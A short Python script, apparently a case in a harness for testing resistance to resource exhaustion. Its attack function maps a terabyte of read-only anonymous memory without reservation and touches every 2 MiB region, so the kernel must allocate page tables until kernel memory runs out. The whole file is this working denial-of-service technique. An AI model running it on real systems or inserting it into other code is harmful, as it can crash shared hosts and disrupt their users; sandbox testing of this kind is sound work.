"""Takes the kernel's memory: tables for a terabyte of addresses, of which it only reads."""

import mmap

from frame import play

MAP_NORESERVE = 0x4000


def attack():
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE
    sparse = mmap.mmap(-1, 1 << 40, flags=flags, prot=mmap.PROT_READ)
    for address in range(0, 1 << 40, 2 << 20):
        sparse[address]
    return "took it"


play(attack)
